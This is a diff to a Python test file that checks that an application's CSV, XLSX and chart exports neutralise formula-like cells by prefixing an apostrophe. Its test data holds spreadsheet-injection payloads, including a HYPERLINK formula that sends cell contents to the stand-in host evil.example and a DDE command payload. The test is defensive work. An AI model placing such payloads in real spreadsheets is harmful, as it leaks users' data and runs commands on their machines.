@@ -66,18 +66,23 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", 
             "\rReturn")
 
 
-def test_the_one_spreadsheet_writer_neutralises_formula_like_cells():
-    from core.disclosure import spreadsheets
+def test_the_one_spreadsheet_writer_neutralises_formula_like_cells(app):
+    from core.disclosure import Guard, spreadsheets
+
+    guard = Guard(None, external=False, unattended=True)
+    context = app.app_context()
+    context.push()
 
     assert [spreadsheets.safe_cell(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
     assert spreadsheets.safe_cell("Aylin = lawyer") == "Aylin = lawyer" and spreadsheets.safe_cell(None) == ""
-    rows = list(csv.reader(io.StringIO(spreadsheets.write_csv(["name"], [[v] for v in FORMULAS]).decode("utf-8-sig"),
+    rows = list(csv.reader(io.StringIO(spreadsheets.write_csv(["name"], [[v] for v in FORMULAS], guard).decode("utf-8-sig"),
                            newline="")))
     assert [row[0] for row in rows[1:]] == ["'" + value for value in FORMULAS]
-    book = load_workbook(io.BytesIO(spreadsheets.write_xlsx("s", ["name", "n"], [[v, 3] for v in FORMULAS])))
+    book = load_workbook(io.BytesIO(spreadsheets.write_xlsx("s", ["name", "n"], [[v, 3] for v in FORMULAS], guard)))
     cells = [row for row in book.active.iter_rows(min_row=2)]
     assert all(name.data_type == "s" and name.value.startswith("'") for name, _n in cells)
     assert all(n.data_type == "s" and n.value == "3" for _name, n in cells)  # text, never a formula or number
+    context.pop()
 
 
 def _cells_of(response, fmt: str) -> list[str]:
@@ -116,7 +121,10 @@ def test_every_export_neutralises_formula_like_cells(app, make_user):
 def test_chart_data_is_written_by_the_same_writer(app):
     from core import statistics
     from core.contributions import Chart
+    from core.disclosure import Guard
 
-    data = statistics.as_csv(Chart("k", "Title", (FORMULAS[0], "Plain"), (2, 3)), "Category", "Count")
+    with app.app_context():
+        data = statistics.as_csv(Chart("k", "Title", (FORMULAS[0], "Plain"), (2, 3)), "Category", "Count",
+                                 Guard(None, external=False, unattended=True))
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     assert rows == [["Category", "Count"], ["'" + FORMULAS[0], "2"], ["Plain", "3"]]
